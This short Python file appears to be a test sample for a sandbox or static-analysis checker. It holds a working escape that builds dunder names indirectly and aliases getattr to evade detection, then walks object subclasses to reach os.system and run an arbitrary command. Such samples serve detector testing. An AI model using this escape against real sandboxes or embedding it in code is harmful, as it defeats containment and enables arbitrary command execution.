# family: computed
# Escape: "%c%cclass%c%c" % tuple([95] * 4) builds "__class__" (folding gives up on a call on the right), then
# "subclasses" is centred in underscores; the getattr alias (module binding via an import named getattr
# later in the file) walks object.__subclasses__() to find os._wrap_close and its globals.
grab = getattr


def tool(cmd: str):
    base = grab(grab((), "%c%cclass%c%c" % tuple([95] * 4)), "mro")()[-1]
    for cls in grab(base, "subclasses".center(14, "_"))():
        if cls.__name__ == "_wrap_close":
            return grab(cls.__init__, "globals".center(11, "_"))["system"](cmd)


from math import floor as getattr
